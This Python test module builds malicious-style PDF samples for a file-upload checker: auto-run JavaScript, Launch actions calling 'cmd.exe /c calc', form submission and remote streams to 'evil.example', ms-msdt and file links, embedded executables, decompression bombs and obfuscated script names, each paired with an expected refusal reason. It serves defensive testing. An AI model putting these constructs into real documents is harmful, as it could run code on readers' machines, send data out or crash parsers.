"""PDFs that run, fetch, hide, lock or never end."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf, String

from concerns.files.refusals import Why
from tests.fuzz.samples import blank_pdf, pdf, saved

ACCEPTED = "accepted"
Row = tuple[str, Callable[[], bytes], str]


def with_action(action: Dictionary) -> bytes:
    """Done when it's opened."""
    made = blank_pdf()
    made.Root.OpenAction = action
    return saved(made)


def with_note(**note: Any) -> bytes:
    """Something on the page."""
    made = blank_pdf()
    made.pages[0].obj.Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 50, 50], **note))])
    return saved(made)


def with_root(key: str, value: Callable[[Pdf], Any], **how: Any) -> bytes:
    made = blank_pdf()
    made.Root[key] = value(made)
    return saved(made, **how)


def changed(old: bytes, new: bytes) -> bytes:
    """The bytes of a document saved without compression, with some put in the place of others of the same length."""
    made = saved(blank_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    assert old in made, made
    return made.replace(old, new.ljust(len(old)), 1)


def script(pdf: Pdf | None = None) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def attached() -> bytes:
    made = blank_pdf()
    made.attachments["x.exe"] = b"MZ"
    return saved(made)


def stream_of(content: bytes, **how: Any) -> bytes:
    """A page whose content is given as it stands."""
    made = blank_pdf()
    made.pages[0].obj.Contents = made.make_stream(content, **how)
    return saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def bomb(size: int) -> bytes:
    """Packed noughts."""
    packer = zlib.compressobj(9)
    piece = bytes(1024 * 1024)
    return b"".join(packer.compress(piece) for _n in range(size)) + packer.flush()


def locked(**how: Any) -> bytes:
    return saved(blank_pdf(), static_id=False, encryption=Encryption(**how))


def by_hand(body: str, root: str = "1 0 R") -> bytes:
    """A document written as text; its table of objects is right."""
    out, places = b"%PDF-1.4\n", []
    for part in body.strip().split("\n"):
        places.append(len(out))
        out += part.encode("latin-1") + b"\n"
    table = len(out)
    rows = "".join(f"{place:010d} 00000 n \n" for place in places)
    return out + f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{rows}trailer <</Size {len(places) + 1}/Root {root}>>\nstartxref\n{table}\n%%EOF\n".encode()


CATALOG = "1 0 obj <</Type/Catalog/Pages 2 0 R{more}>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count {count}>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj"


def rows() -> dict[str, Row]:
    """By title: name, bytes, wanted."""
    uri = lambda text: with_note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(text)))  # noqa: E731
    file = Dictionary(Type=Name.Filespec, F=String("x.exe"))
    found: dict[str, tuple[Callable[[], bytes], str]] = {
        "script when opened": (lambda: with_action(script()), Why.ACTIVE),
        "script in the names": (lambda: with_root("/Names", lambda p: Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))), Why.ACTIVE),
        "script when a page opens": (lambda: with_root("/AA", lambda p: Dictionary(WC=script())), Why.ACTIVE),
        "script behind a note": (lambda: with_note(Subtype=Name.Link, A=script()), Why.ACTIVE),
        "script kept in a stream": (lambda: with_root("/OpenAction", lambda p: Dictionary(S=Name.JavaScript, JS=p.make_stream(b"app.alert(1)"))), Why.ACTIVE),
        "script among packed objects": (lambda: with_root("/OpenAction", lambda p: p.make_indirect(script()), object_stream_mode=pikepdf.ObjectStreamMode.generate), Why.ACTIVE),
        "script by another spelling": (lambda: by_hand(CATALOG.format(more="/OpenAction<</S/J#61vaScript/J#53(x)>>", count=1)), Why.ACTIVE),
        "script nobody points at": (lambda: by_hand(CATALOG.format(more="", count=1) + "\n4 0 obj <</S/JavaScript/JS(x)>> endobj"), Why.ACTIVE),
        "launch": (lambda: with_action(Dictionary(S=Name.Launch, F=String("cmd.exe"))), Why.ACTIVE),
        "launch for one system": (lambda: with_action(Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))), Why.ACTIVE),
        "launch after another action": (lambda: with_action(Dictionary(S=Name.URI, URI=String("https://x.example"), Next=Dictionary(S=Name.Launch, F=String("x")))), Why.ACTIVE),
        "sends a form": (lambda: with_action(Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))), Why.ACTIVE),
        "takes data in": (lambda: with_action(Dictionary(S=Name.ImportData, F=String("x.fdf"))), Why.ACTIVE),
        "plays a film": (lambda: with_note(Subtype=Name.Movie, Movie=Dictionary(F=String("x.avi"))), Why.ACTIVE),
        "plays a sound": (lambda: with_action(Dictionary(S=Name.Sound)), Why.ACTIVE),
        "shows a rendition": (lambda: with_action(Dictionary(S=Name.Rendition)), Why.ACTIVE),
        "rich media": (lambda: with_note(Subtype=Name.RichMedia), Why.ACTIVE),
        "three dimensions": (lambda: with_note(Subtype=Name("/3D")), Why.ACTIVE),
        "a form of another kind": (lambda: with_root("/AcroForm", lambda p: Dictionary(XFA=p.make_stream(b"<xdp/>"), Fields=Array())), Why.ACTIVE),
        "a link of script": (lambda: uri("javascript:alert(1)"), Why.ACTIVE),
        "a link to a file": (lambda: uri("file:///c:/windows/system32/cmd.exe"), Why.ACTIVE),
        "a link to a protocol of a system": (lambda: uri("ms-msdt:/id PCWDiagnostic"), Why.ACTIVE),
        "an ordinary link": (lambda: uri("https://www.example.gov.uk/"), ACCEPTED),
        "a file inside": (attached, Why.HOLDS_FILES),
        "a file behind a note": (lambda: with_note(Subtype=Name.FileAttachment, FS=file), Why.HOLDS_FILES),
        "a file nobody lists": (lambda: with_root("/Kept", lambda p: p.make_stream(b"MZ", Type=Name.EmbeddedFile)), Why.HOLDS_FILES),
        "a collection": (lambda: with_root("/Collection", lambda p: Dictionary(Type=Name.Collection)), Why.HOLDS_FILES),
        "goes to a file inside": (lambda: with_action(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))), Why.HOLDS_FILES),
        "goes to another file": (lambda: with_action(Dictionary(S=Name.GoToR, F=String("\\\\server\\share\\x.pdf"))), Why.FETCHES),
        "takes a stream from elsewhere": (lambda: with_root("/Kept", lambda p: p.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("http://evil.example")))), Why.FETCHES),
        "locked": (lambda: locked(user="secret", owner="secret", R=6), Why.PASSWORD),
        "locked in the old way": (lambda: locked(user="secret", owner="secret", R=3, aes=False, metadata=False), Why.PASSWORD),
        "only its printing is locked": (lambda: locked(owner="secret", R=6), ACCEPTED),
        "says it has a thousand million pages": (lambda: by_hand(CATALOG.format(more="", count=10**9)), ACCEPTED),
        "has a thousand and one pages": (lambda: saved(blank_pdf(1_001)), Why.TOO_MUCH_INSIDE),
        "has a thousand pages": (lambda: saved(blank_pdf(1_000)), ACCEPTED),
        "has no page": (lambda: by_hand("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj"), Why.DAMAGED),
        "has no root": (lambda: by_hand("1 0 obj <</Type/Catalog>> endobj", root="9 0 R"), Why.DAMAGED),
        "pages that hold themselves": (lambda: by_hand("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[2 0 R]/Count 1>> endobj"), Why.DAMAGED),
        "pages that are numbers": (lambda: by_hand("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[3 4 5]/Count 3>> endobj"), Why.DAMAGED),
        "a page that is its own parent's name": (lambda: by_hand("1 0 obj <</Type/Catalog/Pages (x)>> endobj"), Why.DAMAGED),
        "arrays a thousand deep": (lambda: by_hand(CATALOG.format(more="/X" + "[" * 1_000 + "]" * 1_000, count=1)), Why.DAMAGED),
        "arrays a hundred deep": (lambda: by_hand(CATALOG.format(more="/X" + "[" * 100 + "<<>>" + "]" * 100, count=1)), Why.TOO_MUCH_INSIDE),
        "a bomb for a page": (lambda: stream_of(bomb(40), Filter=Name.FlateDecode), Why.TOO_MUCH_INSIDE),
        "a bomb packed twice": (lambda: stream_of(zlib.compress(bomb(100)), Filter=Array([Name.FlateDecode, Name.FlateDecode])), Why.TOO_MUCH_INSIDE),
        "a bomb in two ways": (lambda: stream_of(bomb(2), Filter=Array([Name.FlateDecode, Name.RunLengthDecode])), Why.TOO_MUCH_INSIDE),
        "many small bombs": (many_bombs, Why.TOO_MUCH_INSIDE),
        "a bomb for a picture": (picture_bomb, Why.TOO_MUCH_INSIDE),
        "filters without end": (lambda: stream_of(b"x", Filter=Array([Name.ASCIIHexDecode] * 30)), ACCEPTED),
        "a page that isn't packed as it says": (lambda: stream_of(b"no zlib here", Filter=Name.FlateDecode), ACCEPTED),
        "a page of rubbish": (lambda: stream_of(bytes(range(256)) * 4), ACCEPTED),
        "only its start": (lambda: b"%PDF-1.7\n", Why.DAMAGED),
        "its start and its end": (lambda: b"%PDF-1.7\n%%EOF\n", Why.DAMAGED),
        "no table, all the same whole": (lambda: pdf()[: pdf().rfind(b"startxref")] + b"startxref\n0\n%%EOF\n", ACCEPTED),
        "HTML in its first line": (lambda: b"%PDF-1.4<html><script>alert(1)</script></html>\n%%EOF\n", Why.DAMAGED),
        "noughts behind": (lambda: pdf() + bytes(100), ACCEPTED),
    }  # fmt: skip
    return {title: ("b.pdf", make, wanted) for title, (make, wanted) in found.items()}


def many_bombs() -> bytes:
    """None above the limit, all together far above."""
    made, packed = blank_pdf(), bomb(30)
    for number in range(16):
        made.Root[f"/X{number}"] = made.make_stream(packed, Filter=Name.FlateDecode)
    return saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def picture_bomb() -> bytes:
    made = blank_pdf()
    made.Root.Kept = made.make_stream(bomb(130), Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, Filter=Name.FlateDecode)
    return saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
